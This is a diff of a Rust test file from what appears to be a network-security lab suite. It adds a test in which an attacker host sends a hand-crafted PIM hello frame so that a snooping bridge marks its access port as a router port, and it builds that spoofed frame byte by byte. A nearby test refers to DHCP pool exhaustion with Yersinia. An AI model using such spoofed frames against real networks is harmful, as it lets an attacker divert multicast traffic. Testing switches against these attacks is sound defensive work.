@@ -43,6 +43,30 @@ fn s19_a_querier_on_an_access_port() -> Result<()> {
     Ok(())
 }
 
+/// A bridge that snoops takes a PIM hello for a router's (RFC 7761 §4.9.2).
+#[test]
+fn s19_a_pim_router_on_an_access_port() -> Result<()> {
+    let world = World::new()?;
+    world.lab.host().ip(&format!("link set {BRIDGE} type bridge mcast_snooping 1"))?;
+    world.attack("control", |world| {
+        let hello = pim_hello(world.attacker.mac(), world.leases.attacker.address);
+        send(&world.attacker, &hello)
+    })
+}
+
+/// Version 2, type hello, without options, to all PIM routers.
+fn pim_hello(from: Mac, source: Ipv4Addr) -> Vec<u8> {
+    let mut frame = vec![0x01, 0x00, 0x5e, 0, 0, 0x0d];
+    frame.extend(from.octets());
+    frame.extend([8, 0, 0x45, 0xc0, 0, 24, 0, 0, 0, 0, 1, 103, 0, 0]);
+    frame.extend(source.octets());
+    frame.extend([224, 0, 0, 13, 0x20, 0, 0xdf, 0xff]);
+    let sum = checksum(&frame[14..34]);
+    frame[24..26].copy_from_slice(&sum);
+    frame.resize(60, 0);
+    frame
+}
+
 #[test]
 fn s20_yersinia_exhausts_the_dhcp_servers_pool() -> Result<()> {
     World::new()?.attack("mac", |world| {
